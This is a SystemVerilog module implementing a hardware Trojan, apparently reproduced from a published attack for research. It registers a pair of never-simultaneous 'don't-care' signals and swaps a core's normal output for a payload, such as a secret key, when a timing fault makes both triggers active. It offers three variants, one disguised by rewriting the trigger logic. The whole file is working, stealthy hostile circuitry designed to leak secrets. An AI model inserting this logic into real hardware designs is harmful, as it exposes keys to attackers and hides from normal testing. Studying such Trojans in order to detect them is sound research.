// sdc_trojan: satisfiability don't-care (SDC) hardware Trojan.
//
// Two flip-flops register a pair of signals (s1, s2) that a correct circuit
// never drives to (1, 1). Two cascaded 2-to-1 multiplexers pass the normal
// output o through unless both registered triggers are active, in which
// case the payload f appears on o_t. With correct timing the Trojan is
// therefore invisible; it fires only when a timing fault makes one trigger
// flip-flop capture a stale value. Three variants:
//   TROJAN_1  flip-flops hold s1, s2; fires when both hold 1.
//   TROJAN_2  flip-flops hold ~s1, ~s2 and the multiplexer inputs are
//             swapped, so it fires when both hold 0.
//   TROJAN_3  TROJAN_2 applied to the slowed pair
//             t1 = s1&s2 | x&y, t2 = s1&s2 | ~x&y, where x and y are other
//             signals of the host circuit; t1 and t2 are never both 1.
// The register-then-multiplex structure, the three variants and the
// transformation of TROJAN_3 follow the attack description. The reset of
// the trigger flip-flops to their inactive value is this design's choice.
// The trigger flip-flops capture on the same edge as the register that
// drives o, so o_t is a combinational function of registered values.
module sdc_trojan
  import xattack_pkg::*;
#(
  parameter int unsigned     W       = 128,
  parameter trojan_variant_e VARIANT = TROJAN_2
) (
  input  logic         clk,
  input  logic         rst,   // asynchronous, active high
  input  logic         s1,    // don't-care pair, never (1,1)
  input  logic         s2,
  input  logic         x,     // extra host signals used by TROJAN_3 only
  input  logic         y,
  input  logic [W-1:0] o,     // normal (registered) output of the host
  input  logic [W-1:0] f,     // payload, e.g. the secret key
  output logic [W-1:0] o_t    // output seen outside the infected core
);
  localparam bit INV = (VARIANT != TROJAN_1);

  logic u1, u2;    // trigger pair before polarity choice
  logic d1, d2;    // trigger flip-flop inputs
  logic q1, q2;    // trigger flip-flops
  logic [W-1:0] m1;

  always_comb begin
    if (VARIANT == TROJAN_3) begin
      u1 = (s1 & s2) | (x & y);
      u2 = (s1 & s2) | (~x & y);
    end else begin
      u1 = s1;
      u2 = s2;
    end
    d1 = INV ? ~u1 : u1;
    d2 = INV ? ~u2 : u2;
  end

  always_ff @(posedge clk or posedge rst) begin
    if (rst) begin
      q1 <= INV;
      q2 <= INV;
    end else begin
      q1 <= d1;
      q2 <= d2;
    end
  end

  // First multiplexer selects the payload on trigger 1, second one passes
  // it on trigger 2; with INV the inputs of both are swapped.
  assign m1  = (q1 ^ INV) ? f  : o;
  assign o_t = (q2 ^ INV) ? m1 : o;
endmodule
